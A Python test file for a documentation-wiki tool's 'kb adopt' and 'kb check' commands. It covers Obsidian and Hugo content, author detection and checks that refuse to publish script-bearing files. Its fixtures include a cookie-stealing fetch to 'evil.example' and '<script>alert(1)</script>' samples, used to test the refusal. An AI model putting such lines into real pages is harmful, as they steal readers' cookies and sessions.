"""`kb adopt` on a vault and a docs tree as teams bring them: no kb configuration, no profiles."""

from __future__ import annotations

from pathlib import Path

import pytest
from vaults import EMAILS, KEPANO, commit_history, hugo_pages, vault_pages

from conftest import commit_files, kb_cli, mkdocs_build


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An Obsidian vault in a repository without a mkdocs.yml."""
    root = tmp_path_factory.mktemp("vault")
    commit_history(root, "vault", vault_pages())
    return root


@pytest.fixture(scope="module")
def hugo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Hugo tree whose mkdocs.yml does not have kb yet."""
    root = tmp_path_factory.mktemp("hugo")
    commit_history(root, "content", hugo_pages())
    commit_files(root, {"mkdocs.yml": "site_name: Acme\ndocs_dir: content\ntheme: material\n"}, "Try MkDocs", KEPANO,
                 "2025-12-01T09:00:00Z")
    return root


def section(report: str, title: str) -> list[str]:
    """The lines of one part of the report, from its title to the blank line after it."""
    lines = report.splitlines()
    start = next(n for n, line in enumerate(lines) if line.startswith(title))
    end = next((n for n in range(start + 1, len(lines)) if not lines[n]), len(lines))
    return lines[start:end]


def test_the_vault_report(vault: Path) -> None:
    done = kb_cli(vault, "adopt", "vault")
    assert done.returncode == 0, done.stderr
    report = done.stdout
    assert section(report, "Pages:") == [
        "Pages: 11 would be published (11 articles, 0 people, 0 topic pages); 3 not published (1 draft, 1 unknown status "
        "'Completed', 1 unknown status 'In progress'); to publish pages by another tool's status, map it in the kb "
        "plugin's options: status_map: {Completed: published, In progress: draft}",
        "  held back as draft: vault/Plugins/Canvas.md",
        "  held back as unknown status: Completed: vault/Sync/Selective sync.md",
        "  held back as unknown status: In progress: vault/Publish/Analytics.md",
        "  with the status_map below, 1 more page would be published: run kb adopt again once it is in mkdocs.yml "
        "to see their problems and people",
    ]
    assert section(report, "Problems") == [
        "Problems, by code (kb check lists each one):",
        "  status.invalid  error  2  most in: vault/Publish/Analytics.md (1), vault/Sync/Selective sync.md (1)",
        "  link.wanted  warning  3  most in: vault/Getting started/Install Obsidian.md (1), "
        "vault/Plugins/Core plugins/Backlinks.md (1), vault/Publish/Custom domains.md (1)",
    ]
    assert section(report, "People in git:") == [
        "People in git:",
        "  5 authors of published pages (bots left out), 0 with a profile; the most active:",
        "       5  Steph Ango  (no profile: shown as unclaimed)",
        "       4  kepano  (no profile: shown as unclaimed)",
        "       3  Jane Roe  (no profile: shown as unclaimed)",
        "       2  lee  (no profile: shown as unclaimed)",
        "       2  Stephan Ango  (no profile: shown as unclaimed)",
    ]
    assert section(report, "Likely one person") == [
        "Likely one person (kb never merges names by itself; list them in one profile's names):",
        "  Steph Ango (5), kepano (4), Stephan Ango (2)",
        "    kepano is the name in an email address of Steph Ango",
        "    Steph Ango and Stephan Ango are similar names",
        "    write people/steph-ango.md: names: [Steph Ango, kepano, Stephan Ango]",
    ]
    assert section(report, "Topics:") == [
        "Topics:",
        "  1 of 11 articles has tags; 6 topics",
        "  folder topics: on (folder_topics: auto; fewer than 10% of the articles have tags)",
        "  from folders: Getting started (3), Plugins (3), Core plugins (2), Publish (2), Sync (2)",
    ]
    assert section(report, "Configuration") == [
        "Configuration to add to mkdocs.yml:",
        "  plugins:",
        "    - kb:",
        "        validation:  # notes, not warnings: kb check --verbose still shows them",
        "          link.wanted: info",
        "        status_map: {Completed: published, In progress: draft}",
    ]
    assert not any(email in report for email in EMAILS) and "dependabot" not in report


def test_the_report_is_the_same_every_time(vault: Path) -> None:
    assert kb_cli(vault, "adopt", "vault").stdout == kb_cli(vault, "adopt", "vault").stdout


def test_a_docs_tree_whose_mkdocs_yml_lacks_kb(hugo: Path) -> None:
    """The docs folder comes from mkdocs.yml; kb's options are its defaults."""
    report = kb_cli(hugo, "adopt").stdout
    assert report.startswith("kb adopt content\n")
    assert section(report, "Pages:") == [
        "Pages: 8 would be published (8 articles, 0 people, 0 topic pages); 2 not published (1 draft, 1 frontmatter.placement)",
        "  held back as draft: content/blog/hello.md",
        "  held back as frontmatter.placement: content/about.md",
    ]
    # Hugo's categories are tags: enough of them that folders do not become topics by themselves.
    assert section(report, "Topics:")[1:] == [
        "  2 of 8 articles have tags; 2 topics",
        "  folder topics: off (folder_topics: auto; at least 10% of the articles have tags)",
    ]
    # Hugo's own keys (weight, date, categories) are known: nothing to add.
    assert section(report, "Configuration")[1:] == ["  plugins: [kb]"]


def test_the_configuration_it_suggests_quiets_what_it_found(vault: Path) -> None:
    """With the lines it suggests (less status_map, which another option reads), the warnings
    it counted are gone, and the report says so by suggesting nothing more."""
    lines = section(kb_cli(vault, "adopt", "vault").stdout, "Configuration")[1:]
    config = "\n".join(line[2:] for line in lines if "status_map" not in line)
    (vault / "mkdocs.yml").write_text(f"site_name: Vault\ndocs_dir: vault\ntheme: material\n{config}\n", encoding="utf-8")
    try:
        report = kb_cli(vault, "adopt").stdout
        assert "frontmatter.unknown-key" not in report and "link.wanted  warning" not in report
        assert "  link.wanted  info  3" in report
        assert section(report, "Configuration")[1:] == [
            "  plugins:", "    - kb:", "        status_map: {Completed: published, In progress: draft}"]
    finally:
        (vault / "mkdocs.yml").unlink()


def test_folder_topics_as_the_wiki_says(vault: Path) -> None:
    (vault / "mkdocs.yml").write_text("site_name: V\ndocs_dir: vault\nplugins:\n  - kb:\n      folder_topics: false\n",
                                      encoding="utf-8")
    try:
        topics = section(kb_cli(vault, "adopt").stdout, "Topics:")
        assert topics[1:] == ["  1 of 11 articles has tags; 1 topic", "  folder topics: off (folder_topics: false)"]
        assert kb_cli(vault, "check").stderr.rstrip().endswith("status_map: {Completed: published, In progress: draft}")
    finally:
        (vault / "mkdocs.yml").unlink()
    # kb check says what the build does.
    assert kb_cli(vault, "check", "vault").stderr.rstrip().endswith(", topics from folders")


def test_outside_git_there_are_no_people(tmp_path: Path) -> None:
    (tmp_path / "docs" / "guides").mkdir(parents=True)
    (tmp_path / "docs" / "guides" / "a.md").write_text("# A\n", encoding="utf-8")
    done = kb_cli(tmp_path, "adopt", "docs")
    assert done.returncode == 0
    assert section(done.stdout, "People in git:") == [
        "People in git:", "  no git history (unavailable), so no authors and no expertise from edits"]
    assert "  history.unavailable  warning  1  most in: docs (1)" in done.stdout
    assert section(done.stdout, "Configuration")[1:] == ["  plugins: [kb]"]


def test_a_missing_folder(tmp_path: Path) -> None:
    done = kb_cli(tmp_path, "adopt", "nowhere")
    assert done.returncode == 2 and "no content directory at nowhere" in done.stderr


def test_a_material_site_s_own_scripts_styles_and_templates_folder(tmp_path: Path) -> None:
    """Material's docs put a site's scripts and styles in the docs folder and name them in
    extra_javascript and extra_css; MkDocs leaves a top-level templates/ out of every site."""
    files = {"docs/index.md": "# Home\n\nSee [the template page](templates/post.md).\n",
             "docs/templates/post.md": "# Post template\n", "docs/javascripts/extra.js": "console.log(1)\n",
             "docs/stylesheets/extra.css": "body { margin: 0 }\n"}
    commit_files(tmp_path, files, "Docs", KEPANO, "2025-12-01T09:00:00Z")
    report = kb_cli(tmp_path, "adopt", "docs").stdout
    assert "  held back as file.excluded: docs/templates/post.md" in report
    assert section(report, "Configuration")[1:] == [
        '  # exclude_docs: "!/templates/"  # if templates/ holds pages: MkDocs leaves it out unless told',
        '  # extra_css: ["stylesheets/extra.css"]  # if these are the site\'s own, not a page\'s',
        '  # extra_javascript: ["javascripts/extra.js"]  # if these are the site\'s own, not a page\'s',
        "  plugins: [kb]",
    ]
    (tmp_path / "mkdocs.yml").write_text("site_name: S\ntheme: material\nplugins: [kb]\n", encoding="utf-8")
    checked = kb_cli(tmp_path, "check").stdout
    assert ("docs/index.md:3:5: warning: link 'templates/post.md' points to templates/post.md, which is not published: "
            "MkDocs leaves a top-level templates/ folder out of every site; add '!/templates/' to exclude_docs in "
            "mkdocs.yml to publish it [link.withheld]") in checked
    assert "docs/javascripts/extra.js:1:1: error:" in checked and "docs/stylesheets/extra.css:1:1: error:" in checked
    # With the lines uncommented, all of it is published and nothing is reported.
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: S\ntheme: material\nexclude_docs: '!/templates/'\nextra_css: [stylesheets/extra.css]\n"
        "extra_javascript: [{path: javascripts/extra.js, type: module}, 'https://cdn.example/x.js']\nplugins: [kb]\n",
        encoding="utf-8")
    done = kb_cli(tmp_path, "check")
    assert (done.returncode, done.stdout) == (0, "")
    built = mkdocs_build(tmp_path)
    assert built.returncode == 0, built.log
    assert (built.site / "javascripts/extra.js").read_text() == "console.log(1)\n"
    assert (built.site / "stylesheets/extra.css").is_file() and (built.site / "templates/post/index.html").is_file()
    assert '<script src="javascripts/extra.js" type="module">' in built.html("")
    # A script the configuration does not name is still refused.
    (tmp_path / "docs/javascripts/other.js").write_text("alert(1)\n", encoding="utf-8")
    assert "docs/javascripts/other.js:1:1: error: a browser would run .js files" in kb_cli(tmp_path, "check").stdout


def test_only_styles_and_scripts_mkdocs_yml_names_are_the_site_s_own_and_never_the_theme_s(tmp_path: Path) -> None:
    files = {"docs/index.md": "# Home\n", "docs/evil.html": "<script>alert(1)</script>\n",
             "docs/x.php.css": "body {}\n", "docs/js/theme.js": "fetch('//evil.example/?c=' + document.cookie)\n",
             "overrides/js/theme.js": "console.log('the theme')\n", "docs/css/extra.css": "body { margin: 0 }\n",
             "docs/plan.md": "---\ndraft: true\n---\nTODO: tidy up extra.css\n"}
    commit_files(tmp_path, files, "Docs", KEPANO, "2025-12-01T09:00:00Z")
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: S\ntheme: {name: material, custom_dir: overrides}\n"
        "extra_css: [evil.html, x.php.css, css/extra.css]\nextra_javascript: [js/theme.js]\nplugins: [kb]\n", encoding="utf-8")
    checked = kb_cli(tmp_path, "check").stdout
    assert "docs/evil.html:1:1: error: a browser would run .html files" in checked
    assert "docs/x.php.css:1:1: error: a web server may run or send this file as a .php file" in checked
    assert "docs/js/theme.js:1:1: error: a browser would run .js files" in checked
    assert "css/extra.css" not in checked  # a draft that mentions it does not hold the site's style back
    built = mkdocs_build(tmp_path, strict=False)
    assert (built.site / "js/theme.js").read_text() == "console.log('the theme')\n"
    assert not (built.site / "evil.html").exists() and not (built.site / "x.php.css").exists()
    assert (built.site / "css/extra.css").is_file()


def test_names_that_start_with_a_dot_taken_back_by_exclude_docs_are_checked_like_any_file(tmp_path: Path) -> None:
    """MkDocs leaves `.*` out unless exclude_docs takes it back (`!.well-known/`): then it publishes
    it, and kb reads it as it reads every other file."""
    files = {"docs/index.md": "# Home\n", "docs/.well-known/evil.html": "<script>alert(1)</script>\n",
             "docs/.well-known/security.txt": "Contact: mailto:security@example.com\n",
             "docs/.assets/page.md": "---\nstatus: draft\n---\nSECRET PLAN\n", "docs/.obsidian/app.json": "{}\n",
             "mkdocs.yml": "site_name: S\ntheme: material\nexclude_docs: |\n  !.well-known/\n  !.assets/\nplugins: [kb]\n"}
    commit_files(tmp_path, files, "Docs", KEPANO, "2025-12-01T09:00:00Z")
    assert kb_cli(tmp_path, "check").stdout.splitlines() == [
        "docs/.well-known/evil.html:1:1: error: a browser would run .html files as a page of the wiki, with its "
        "readers' cookies, so this file is not published; write the page in Markdown, or attach a picture as PNG or "
        "SVG [file.active]"]
    built = mkdocs_build(tmp_path, strict=False)
    assert (built.site / ".well-known/security.txt").is_file() and not (built.site / ".well-known/evil.html").exists()
    assert "SECRET PLAN" not in "".join(built.all_text().values()) and not (built.site / ".obsidian").exists()


def test_every_value_the_report_suggests_reads_back_as_yaml() -> None:
    import yaml

    from kb.commands.adopt import _flow

    values = ["plain", "it's done", "a: b", "# hash", "yes", "Ready\u2028now", "line\u0085break", "Fertig ✓"]
    assert yaml.safe_load(f"k: {_flow(values)}")["k"] == values
